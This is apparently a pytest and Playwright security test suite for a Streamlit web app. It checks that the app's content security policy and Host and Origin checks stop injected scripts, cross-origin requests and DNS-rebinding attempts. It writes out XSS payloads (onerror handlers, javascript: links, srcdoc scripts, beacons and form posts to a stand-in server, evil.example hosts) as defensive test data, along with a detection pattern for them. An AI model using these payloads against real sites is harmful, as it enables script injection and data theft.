"""Attacks on the server from a browser and over the wire: under other names, from other pages, and
by every text that it shows."""

import json
import os
import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.client import HTTPResponse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlencode

import numpy as np
import pytest
import streamlit
from PIL import Image
from playwright.sync_api import Browser, Error, Page, expect

from tests import hostile
from tests.e2e.conftest import ARGUMENTS, PATIENCE, Server
from tests.e2e.visitor import Visitor
from tests.pages.conftest import PAGES

pytestmark = pytest.mark.e2e
NIGHTLY = bool(os.environ.get("DERMXAI_NIGHTLY"))
_HARM = r"""() => {
  const found = [];
  if (window.hacked) found.push("a script ran");
  for (const element of document.querySelectorAll("*"))
    for (const {name, value} of element.attributes) {
      const leads = /^(src|srcset|href|xlink:href|style|action|data|poster|background)$/.test(name);
      const away = !value.startsWith("#") && /ev?\.il|hacked|javascript:/.test(value);
      if (name.startsWith("on") || (leads && away))
        found.push(`${element.tagName} ${name}=${value}`);
    }
  return found;
}"""


@pytest.fixture(scope="module")
def server(
    tiny_checkpoint: Path, tmp_path_factory: pytest.TempPathFactory, browser: Browser
) -> Iterator[Server]:
    """Over a workspace that attacks whoever shows it."""
    home = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DERMXAI_HOME", str(home))
        run = hostile.hostile_workspace(tiny_checkpoint)
        key = hostile.selection_of(run)
        running = Server(home)
        ids, classes = run.samples["sample_id"], run.classes
        running.view = {  # type: ignore[attr-defined]
            **{"run": run.id, "sel": key, "primary": ids[0], "pinned": ids[1]},
            **{"first": classes[0], "second": classes[1]},
        }
        yield running
        running.kill()


@pytest.fixture(scope="module")
def watched(server: Server, browser: Browser) -> Iterator[tuple[Visitor, list[str]]]:
    """A visitor whose browser knows no security policy: what is not escaped is seen."""
    context = browser.new_context(viewport={"width": 1440, "height": 1100}, bypass_csp=True)
    page, asked = context.new_page(), []
    page.set_default_timeout(PATIENCE)
    own = (server.address, "data:", "blob:")
    page.on("request", lambda request: request.url.startswith(own) or asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    yield Visitor(page, server.address), asked
    context.close()


def _unharmed(page: Page, asked: list[str]) -> None:
    assert page.evaluate(_HARM) == []
    assert asked == []


def _look_around(page: Page) -> None:
    """Opens what is folded, and points at what says more then."""
    for fold in page.get_by_test_id("stExpander").locator("summary").all():
        if fold.locator("..").get_attribute("open") is None:
            fold.click()
    for drawn in page.locator(".js-plotly-plot .nsewdrag").all()[:3]:
        drawn.scroll_into_view_if_needed()
        drawn.hover()
    for hint in page.get_by_test_id("stTooltipIcon").all()[:4]:
        hint.hover()


@pytest.mark.parametrize("name", PAGES if NIGHTLY else ("performance", "confusion_analysis"))
def test_no_text_from_outside_does_anything(
    name: str, server: Server, watched: tuple[Visitor, list[str]]
) -> None:
    visitor, asked = watched
    visitor.go(f"{name}?{urlencode(server.view)}")  # type: ignore[attr-defined]
    page = visitor.page
    expect(page.get_by_test_id("stApp")).to_contain_text(hostile.MARK)
    expect(visitor.sidebar).to_contain_text("![](//ev.il/title of project)")
    _look_around(page)
    visitor.settled()
    _unharmed(page, asked)


@pytest.mark.skipif(not NIGHTLY, reason="takes minutes; tests/pages/test_hostile.py asks the same")
def test_nor_what_a_form_a_training_or_an_error_says(
    server: Server, watched: tuple[Visitor, list[str]]
) -> None:
    visitor, asked = watched
    page = visitor.page
    visitor.go("training?" + urlencode({"job": "20260101-000000-train-hostile"}))
    expect(page.get_by_text("![](//ev.il/error)")).to_be_visible()
    for view in ("Layers", "Hardware", "Log", "Recipe", "Curves"):
        visitor.choose(view)
        _unharmed(page, asked)
    page.get_by_role("button", name="Clone").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    visitor.settled()
    _unharmed(page, asked)
    for asked_for in ("run", "dataset", "checkpoint", "sel", "primary", "first", "target", "head"):
        visitor.go("image?" + urlencode(server.view | {asked_for: hostile.text("link")}))  # type: ignore[attr-defined]
        _unharmed(page, asked)


@pytest.mark.skipif(not NIGHTLY, reason="takes long")
def test_nor_the_name_of_an_own_image(server: Server, watched: tuple[Visitor, list[str]]) -> None:
    visitor, asked = watched
    visitor.go("image?" + urlencode(server.view))  # type: ignore[attr-defined]
    buffer = BytesIO()
    Image.fromarray(np.zeros((40, 40, 3), np.uint8)).save(buffer, "PNG")
    visitor.page.get_by_role("button", name="Own image").click()
    own = {"name": hostile.text("own") + ".png", "mimeType": "image/png"}
    visitor.page.locator("input[type=file]").set_input_files([own | {"buffer": buffer.getvalue()}])
    expect(visitor.page.get_by_text("Your image; it stays")).to_be_visible()
    visitor.settled()
    _unharmed(visitor.page, asked)


@contextmanager
def _other_server(page: str = "") -> Iterator[tuple[int, list[str]]]:
    """A server of somebody else on another port of this computer; yields its port, and what it was
    asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None: ...

    other = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=other.serve_forever, daemon=True).start()
    yield other.server_port, asked
    other.shutdown()


_INJECTED = """async there => {
  const add = html => document.body.insertAdjacentHTML("beforeend", html.replaceAll("@", there));
  add('<img src="@/a"><img src="x" onerror="window.hacked=1">');
  add('<iframe src="@/b"></iframe><object data="@/c"></object>');
  add('<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>');
  add('<a id="lure" href="javascript:window.hacked=1">x</a>');
  add('<link rel="stylesheet" href="@/d"><video src="@/e"></video>');
  add('<div style="background:url(@/f)">x</div>');
  const script = document.createElement("script");
  script.textContent = "window.hacked = 1";
  document.body.append(script);
  const other = document.createElement("script");
  other.src = there + "/h.js";
  document.body.append(other);
  await fetch(there + "/i", {mode: "no-cors"}).catch(() => 0);
  navigator.sendBeacon(there + "/j", "x");
  for (const kind of [WebSocket, EventSource, Worker]) try { new kind(there + "/k"); } catch {}
  document.getElementById("lure").click();
  await new Promise(done => setTimeout(done, 300));
}"""
_FORM = """async there => {
  const html = `<form id="sent" action="${there}/g"><input name="a" value="b"></form>`;
  document.body.insertAdjacentHTML("beforeend", html);
  document.getElementById("sent").submit();
  await new Promise(done => setTimeout(done, 300));
}"""


_LEAKS = {"/a", "/b", "/d", "/f", "/h.js", "/i", "/j", "/g?a=b"}


@pytest.mark.parametrize("without", [False, True], ids=["policy", "no policy"])
def test_the_policy_stops_what_would_be_overlooked(
    without: bool, server: Server, browser: Browser
) -> None:
    """As if a text had become part of the page: nothing of it runs, and no request leaves."""
    context = browser.new_context(bypass_csp=without)
    page = context.new_page()
    Visitor(page, server.address).go("dataset")
    with _other_server() as (port, asked):
        page.evaluate(_INJECTED, f"http://127.0.0.1:{port}")
        for _ in range(100 if without else 0):  # before the page is left, which stops them
            if set(asked) >= _LEAKS - {"/g?a=b"}:
                break
            page.wait_for_timeout(100)
        hacked = page.evaluate("window.hacked")
        with suppress(Error):  # the page was left
            page.evaluate(_FORM, f"http://127.0.0.1:{port}")
        address = page.url
        for _ in range(50 if without else 0):  # a beacon is sent when the browser has time
            if set(asked) >= _LEAKS:
                break
            page.wait_for_timeout(100)
        context.close()
    if without:
        assert set(asked) >= _LEAKS
        assert hacked == 1
    else:
        assert asked == []
        assert hacked is None
        assert address.startswith(server.address)


_PAGE = """<body><iframe id=frame src="{ours}/"></iframe><script>
  const ours = "{ours}", said = {};
  const loads = (tag, at) => new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => done(true); element.onerror = () => done(false);
    element.src = ours + at; document.body.append(element);
  });
  const opens = at => new Promise(done => {
    const socket = new WebSocket(ours.replace("http", "ws") + at, ["streamlit"]);
    socket.onopen = () => done(true); socket.onerror = () => done(false);
  });
  (async () => {
    said.read = await fetch(ours + "/_stcore/health").then(() => true, () => false);
    said.picture = await loads("img", "/favicon.png");
    said.script = await loads("script", "/static/js/%s");
    said.socket = await opens("/_stcore/stream");
    said.put = await fetch(ours + "/_stcore/upload_file/a/b",
      {method: "PUT", mode: "no-cors", body: "x"}).then(() => true, () => false);
    document.title = JSON.stringify(said);
  })();
</script>"""


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "evil.example"])
def test_a_page_of_another_server_gets_nothing(host: str, server: Server, browser: Browser) -> None:
    """Of another local port, and of a name that leads to this computer."""
    script = next((Path(streamlit.__file__).parent / "static/static/js").glob("index.*.js")).name
    target = "evil.example" if host == "evil.example" else "localhost"
    ours = f"http://{target}:{server.port}"
    page_text = _PAGE.replace("{ours}", ours).replace("%s", script)
    rule = "--host-resolver-rules=MAP *.example 127.0.0.1"
    with _other_server(page_text) as (port, _):
        opened = browser.browser_type.launch(
            executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"),
            args=[*ARGUMENTS, rule],
        )
        page = opened.new_page()
        page.goto(f"http://{host}:{port}/")
        page.wait_for_function("document.title.startsWith('{')", timeout=PATIENCE)
        said = json.loads(page.title())
        assert not any(said.values()), said
        assert len(said) == 5
        frame = page.frames[1]
        assert "stApp" not in (frame.content() if not frame.url.startswith("chrome-error") else "")
        page.goto(f"{ours}/")
        if host == "evil.example":
            expect(page.get_by_text("does not answer under this name")).to_be_visible()
        opened.close()


def _sent(server: Server, request: str) -> str:
    """The first line of the answer to bytes over the wire."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as wire:
        wire.sendall(request.replace("\n", "\r\n").encode("latin-1"))
        return wire.recv(65536).decode("latin-1").partition("\r\n")[0]


def _upgrade(host: str, origin: str | None) -> str:
    asked = "" if origin is None else f"Origin: {origin}\n"
    return (
        f"GET /_stcore/stream HTTP/1.1\nHost: {host}\n{asked}Upgrade: websocket\n"
        "Connection: Upgrade\nSec-WebSocket-Version: 13\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\n\n"
    )


def test_over_the_wire(server: Server) -> None:
    own = f"localhost:{server.port}"
    assert " 200 " in _sent(server, f"GET /_stcore/health HTTP/1.1\nHost: {own}\n\n")
    whole = f"GET http://{own}/ HTTP/1.1\nHost: evil.example\n\n"
    for line in ("GET / HTTP/1.0\n\n", "GET / HTTP/1.1\n\n", whole):
        assert re.search(r" 4(00|21) ", _sent(server, line)), line
    for path in ("/", "/media/x.png", "/_stcore/host-config", "/static/js/x.js", "/component/x"):
        assert " 421 " in _sent(server, f"GET {path} HTTP/1.1\nHost: evil.example\n\n")
        asked = f"GET {path} HTTP/1.1\nHost: {own}\nOrigin: http://localhost:1\n\n"
        assert " 403 " in _sent(server, asked)
    twice = f"GET / HTTP/1.1\nHost: {own}\nHost: evil.example\n\n"
    assert re.search(r" 4(00|21) ", _sent(server, twice))
    for method in ("PUT", "DELETE", "OPTIONS", "POST"):
        asked = f"{method} /_stcore/upload_file/a/b HTTP/1.1\nHost: {own}\nOrigin: null\n"
        asked += "Content-Length: 0\n\n"
        assert " 403 " in _sent(server, asked)
    for closed in ("metrics", "agent/openapi.json", "agent/mcp", "%6detrics"):
        assert " 404 " in _sent(server, f"GET /_stcore/{closed} HTTP/1.1\nHost: {own}\n\n")
    assert " 101 " in _sent(server, _upgrade(own, f"http://{own}"))
    assert " 403 " in _sent(server, _upgrade("evil.example", "http://evil.example"))
    assert " 403 " in _sent(server, _upgrade(own, "http://evil.example"))
    assert " 403 " in _sent(server, _upgrade(own, f"http://localhost:{server.port + 1}"))


def _status(wire: socket.socket) -> int:
    """Of the next answer, which is read to its end."""
    answer = HTTPResponse(wire)
    answer.begin()
    answer.read()
    return answer.status


def test_the_second_request_of_a_connection_is_judged_too(server: Server) -> None:
    own = f"localhost:{server.port}"
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as wire:
        wire.sendall(f"GET /_stcore/health HTTP/1.1\r\nHost: {own}\r\n\r\n".encode())
        assert _status(wire) == 200
        wire.sendall(b"GET /_stcore/health HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        assert _status(wire) == 421
